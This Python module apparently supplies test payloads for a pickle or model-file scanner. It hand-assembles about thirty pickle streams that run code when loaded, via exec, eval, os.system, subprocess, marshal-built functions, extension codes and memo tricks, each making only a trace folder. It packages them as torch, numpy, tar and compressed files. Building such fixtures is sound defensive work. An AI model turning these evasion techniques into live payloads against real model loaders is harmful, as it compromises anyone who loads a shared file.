"""Pickles that run code when they are read, and the forms of file in which one may come.

Each payload leaves a folder behind, its trace.  ``unpickle`` reads one as nothing of ours does.
"""

from __future__ import annotations

import argparse
import copyreg
import gzip
import io
import marshal
import os
import pickle
import pickletools
import struct
import tarfile
import types
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

Stream = Callable[[Path], bytes]
EXTENSIONS = {pickle.EXT1: 241, pickle.EXT2: 4_001, pickle.EXT4: 70_001}


class Folder:
    """Unpickling this makes a folder."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.mkdir, (str(self.trace),))


def dumped(protocol: int, around: Callable[[Folder], Any] = lambda one: one) -> Stream:
    return lambda trace: pickle.dumps(around(Folder(trace)), protocol=protocol)


# -- assembled by hand -------------------------------------------------------------------------


def text(value: str) -> bytes:
    """A string in a stream."""
    encoded = value.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(encoded)) + encoded


def name(dotted: str) -> bytes:
    """A global: ``os.mkdir``."""
    module, _, own = dotted.rpartition(".")
    return pickle.GLOBAL + f"{module}\n{own}\n".encode()


def stacked(module: str, own: str) -> bytes:
    return text(module) + text(own) + pickle.STACK_GLOBAL


def call(function: bytes, *arguments: bytes) -> bytes:
    return function + pickle.MARK + b"".join(arguments) + pickle.TUPLE + pickle.REDUCE


def listed(*values: bytes) -> bytes:
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(values) + pickle.APPENDS


def raw(content: bytes) -> bytes:
    return pickle.BINBYTES + struct.pack("<I", len(content)) + content


def whole(body: bytes, protocol: int = 2) -> bytes:
    return pickle.PROTO + bytes([protocol]) + body + pickle.STOP


def assembled(body: Callable[[Path], bytes], protocol: int = 2) -> Stream:
    return lambda trace: whole(body(trace), protocol)


def source(trace: Path) -> str:
    return f"__import__('os').mkdir({str(trace)!r})"


def new_object(trace: Path) -> bytes:
    """``tuple.__new__(tuple, map.__new__(map, os.mkdir, [trace]))``: no call at all."""
    mapped = name("builtins.map") + name("os.mkdir") + listed(text(str(trace)))
    return (
        name("builtins.tuple")
        + mapped
        + pickle.TUPLE2
        + pickle.NEWOBJ
        + pickle.TUPLE1
        + (pickle.NEWOBJ)
    )


def new_object_with_keywords(trace: Path) -> bytes:
    mapped = name("builtins.map") + name("os.mkdir") + listed(text(str(trace)))
    made = mapped + pickle.TUPLE2 + pickle.NEWOBJ
    return name("builtins.tuple") + made + pickle.TUPLE1 + pickle.EMPTY_DICT + pickle.NEWOBJ_EX


def state(kind: str) -> Callable[[Path], bytes]:
    """A first state gives the object a ``__setstate__`` of its own, the second is its argument."""

    def body(trace: Path) -> bytes:
        first = pickle.EMPTY_DICT + text("__setstate__") + name("os.mkdir") + pickle.SETITEM
        made = name(kind) + pickle.EMPTY_TUPLE + pickle.REDUCE
        return made + first + pickle.BUILD + text(str(trace)) + pickle.BUILD

    return body


def extension(opcode: bytes) -> Callable[[Path], bytes]:
    code = EXTENSIONS[opcode]
    width = {pickle.EXT1: "<B", pickle.EXT2: "<H", pickle.EXT4: "<i"}[opcode]
    return lambda trace: call(opcode + struct.pack(width, code), text(str(trace)))


def function(trace: Path) -> bytes:
    """A function made of bytes, and called."""
    compiled = marshal.dumps(compile(source(trace), "made", "exec"))
    made = call(
        name("types.FunctionType"),
        call(name("marshal.loads"), raw(compiled)),
        pickle.EMPTY_DICT,
    )
    return call(made)


def script(trace: Path) -> bytes:
    file = trace.with_suffix(".py")
    file.write_text(source(trace))
    return call(name("runpy.run_path"), text(str(file)))


def array_file(trace: Path) -> bytes:
    file = trace.with_suffix(".npy")
    file.write_bytes(numpy_array(dumped(2)(trace)))
    return call(name("numpy.load"), text(str(file)), pickle.NONE, pickle.NEWTRUE)


def module(own: str) -> bytes:
    return call(name("importlib.import_module"), text(own))


PAYLOADS: Mapping[str, Stream] = {
    **{f"reduce, protocol {protocol}": dumped(protocol) for protocol in (0, 1, 2, 4, 5)},
    "below other values": dumped(2, lambda one: {"state_dict": {"a": [1.0]}, "epoch": (1, [one])}),
    "in an ordered dict": dumped(4, lambda one: OrderedDict(a=1, b=one)),
    "as a key": lambda trace: whole(
        pickle.EMPTY_DICT + call(name("os.mkdir"), text(str(trace))) + pickle.NONE + pickle.SETITEM
    ),
    "system": assembled(lambda trace: call(name("posix.system"), text(f"mkdir {trace}"))),
    "popen": assembled(
        lambda trace: call(name("subprocess.call"), listed(text("mkdir"), text(str(trace))))
    ),
    "exec": assembled(lambda trace: call(name("builtins.exec"), text(source(trace)))),
    "eval": assembled(lambda trace: call(name("builtins.eval"), text(source(trace)))),
    "exec by its old name": assembled(
        lambda trace: call(name("__builtin__.eval"), text(source(trace)))
    ),
    "inst": lambda trace: b"(S" + repr(str(trace)).encode() + b"\nios\nmkdir\n.",
    "obj": lambda trace: b"(" + name("os.mkdir") + text(str(trace)) + pickle.OBJ + pickle.STOP,
    "newobj": assembled(new_object),
    "newobj_ex": assembled(new_object_with_keywords, 4),
    "stack global": assembled(lambda trace: call(stacked("os", "mkdir"), text(str(trace))), 4),
    "dotted name": assembled(
        lambda trace: call(stacked("os", "path.os.mkdir"), text(str(trace))), 4
    ),
    "extension 1": assembled(extension(pickle.EXT1)),
    "extension 2": assembled(extension(pickle.EXT2)),
    "extension 4": assembled(extension(pickle.EXT4)),
    "build": assembled(state("types.SimpleNamespace")),
    "build of options": assembled(state("argparse.Namespace")),
    "persistent id": assembled(
        lambda trace: text("storage") + call(name("os.mkdir"), text(str(trace))) + pickle.TUPLE2
        + pickle.BINPERSID
    ),
    "pickle in a pickle": assembled(
        lambda trace: call(name("_pickle.loads"), raw(dumped(2)(trace))), 3
    ),
    "getattr": assembled(
        lambda trace: call(
            call(name("builtins.getattr"), module("os"), text("mkdir")), text(str(trace))
        )
    ),
    "partial": assembled(
        lambda trace: call(call(name("functools.partial"), name("os.mkdir"), text(str(trace))))
    ),
    "methodcaller": assembled(
        lambda trace: call(
            call(name("operator.methodcaller"), text("mkdir"), text(str(trace))), module("os")
        )
    ),
    "function of bytes": assembled(function, 3),
    "script": assembled(script),
    "array file": assembled(array_file),
    "through the memo": assembled(
        lambda trace: name("os.mkdir") + pickle.BINPUT + b"\x07" + pickle.POP
        + call(pickle.BINGET + b"\x07", text(str(trace)))
    ),
}  # fmt: skip


def register_extensions() -> None:
    """Codes stand for names only where a program has agreed on them."""
    agreed = (("os", "mkdir"), ("posix", "mkdir"), ("os", "makedirs"))  # one code for each
    for (own, function_name), code in zip(agreed, EXTENSIONS.values(), strict=True):
        copyreg.add_extension(own, function_name, code)


class Naive(pickle.Unpickler):
    """Reads anything, as ``torch.load`` once did."""

    def persistent_load(self, pid: Any) -> Any:
        return pid


def unpickle(stream: bytes) -> Any:
    return Naive(io.BytesIO(stream)).load()


# -- forms of file -----------------------------------------------------------------------------

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001  # torch.serialization
SYSTEM = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}


def zipped(stream: bytes, names: tuple[str, ...] = ("data.pkl",)) -> bytes:
    """As ``torch.save`` writes."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for one in names:
            archive.writestr(f"archive/{one}", stream)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return held.getvalue()


def legacy(stream: bytes, place: int = 3) -> bytes:
    """As torch wrote before version 1.6: five pickles, one of them this one."""
    parts = [pickle.dumps(one, protocol=2) for one in (MAGIC, PROTOCOL, SYSTEM, {}, [])]
    parts[place] = stream
    return b"".join(parts)


def tarred(stream: bytes) -> bytes:
    """As torch wrote before version 0.1.10."""
    held = io.BytesIO()
    none = pickle.dumps(0, protocol=2)
    members = {"sys_info": pickle.dumps(SYSTEM, 2), "storages": none, "tensors": none}
    with tarfile.open(fileobj=held, mode="w") as archive:
        for own, content in {**members, "pickle": stream}.items():
            entry = tarfile.TarInfo(own)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return held.getvalue()


def numpy_array(stream: bytes) -> bytes:
    """A ``.npy`` file of objects."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header.ljust(117) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + stream


def numpy_arrays(stream: bytes) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("input.npy", numpy_array(stream))
    return held.getvalue()


FORMS: Mapping[str, Callable[[bytes], bytes]] = {
    "pickle": lambda stream: stream,
    "zip": zipped,
    "zip, every entry": lambda stream: zipped(stream, ("data.pkl", "data/0", "attributes.pkl")),
    "TorchScript": lambda stream: zipped(
        stream, ("constants.pkl", "data.pkl", "code/__torch__.py", "code/__torch__.py.debug_pkl")
    ),
    "legacy": legacy,
    "legacy, first": lambda stream: legacy(stream, 0),
    "legacy, third": lambda stream: legacy(stream, 2),
    "legacy, last": lambda stream: legacy(stream, 4),
    "tar": tarred,
    "npy": numpy_array,
    "npz": numpy_arrays,
    "zlib (joblib)": zlib.compress,
    "gzip": lambda stream: gzip.compress(stream, mtime=0),
}


def opcodes(stream: bytes) -> set[str]:
    return {opcode.name for opcode, _, _ in pickletools.genops(stream)}


def risky() -> tuple[types.ModuleType, ...]:
    """Modules that a payload may name; importing them beforehand keeps their import out of it."""
    return (argparse, marshal, os, types)
